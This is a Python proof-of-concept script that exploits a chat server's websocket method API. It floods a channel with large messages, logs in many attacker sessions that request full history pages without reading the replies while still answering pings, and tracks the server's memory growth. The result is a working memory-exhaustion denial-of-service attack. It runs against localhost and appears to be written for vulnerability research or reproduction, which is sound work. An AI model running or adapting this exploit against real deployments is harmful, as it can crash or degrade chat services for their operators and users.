import socket, os, json, sys, time, struct, base64, subprocess
URL_HOST, PORT = "127.0.0.1", int(sys.argv[1])
BIN = sys.argv[2]; N = int(sys.argv[3]); PID = int(sys.argv[4])
def tok(u):
    return subprocess.check_output([BIN, "token", "--user-id", u, "--username", u, "--jwt-secret", "s3cret"]).decode().strip()
def ws():
    s = socket.create_connection((URL_HOST, PORT))
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall(f"GET /websocket HTTP/1.1\r\nHost: {URL_HOST}:{PORT}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
    buf = b""
    while b"\r\n\r\n" not in buf: buf += s.recv(1)
    if b" 101 " not in buf.split(b"\r\n")[0]: sys.exit(f"handshake refused: {buf!r}")
    return s
def send(s, obj):
    data = json.dumps(obj).encode(); m = os.urandom(4)
    n = len(data)
    hdr = bytes([0x81]) + (bytes([0x80|n]) if n < 126 else bytes([0x80|126]) + struct.pack(">H", n) if n < 65536 else bytes([0x80|127]) + struct.pack(">Q", n))
    s.sendall(hdr + m + bytes(b ^ m[i % 4] for i, b in enumerate(data)))
def recv_frame(s, f):
    h = f.read(2); n = h[1] & 127
    if n == 126: n = struct.unpack(">H", f.read(2))[0]
    elif n == 127: n = struct.unpack(">Q", f.read(8))[0]
    return h[0] & 15, f.read(n)
def call(s, f, method, params, i):
    send(s, {"msg": "method", "method": method, "id": str(i), "params": params})
    while True:
        op, d = recv_frame(s, f)
        if op == 8: return ("closed", d)
        m = json.loads(d)
        if m.get("msg") == "ping": send(s, {"msg": "pong"})
        if m.get("msg") == "result" and m.get("id") == str(i): return m
def login(u):
    s = ws(); f = s.makefile("rb")
    send(s, {"msg": "connect", "version": "1", "support": ["1"]}); recv_frame(s, f)
    call(s, f, "login", [{"resume": tok(u)}], 1)
    return s, f
def rss():
    for l in open(f"/proc/{PID}/status"):
        if l.startswith("VmRSS"): return int(l.split()[1]) // 1024
owner, of = login("owner")
rid = call(owner, of, "createChannel", ["big", [], False, {}, {}], 2)["result"]["_id"]
for i in range(1000):
    r = call(owner, of, "sendMessage", [{"rid": rid, "msg": '"' * 5000}], f"m{i}")
    assert "error" not in r, r
r = call(owner, of, "loadHistory", [rid, None, 1000, None], 3)
print("one loadHistory page:", len(r["result"]["messages"]), "messages,", len(json.dumps(r)), "bytes")
print("rss before attack MiB", rss())
atk = []
for i in range(N):
    s, f = login(f"atk{i}")
    call(s, f, "joinRoom", [rid], 2)
    atk.append(s)
peak = 0
for s in atk:
    for j in range(int(sys.argv[5])):
        send(s, {"msg": "method", "method": "loadHistory", "id": f"h{j}", "params": [rid, None, 1000, None]})
# keep "answering pings" blindly (never read): send pongs every second
t0 = time.time()
while time.time() - t0 < 40:
    for s in atk:
        try: send(s, {"msg": "pong"})
        except OSError: pass
    peak = max(peak, rss()); time.sleep(1)
print("rss peak during attack (40 s) MiB", peak, "now", rss())
for s in atk: s.close()
time.sleep(15)
print("rss 15 s after attackers left MiB", rss())
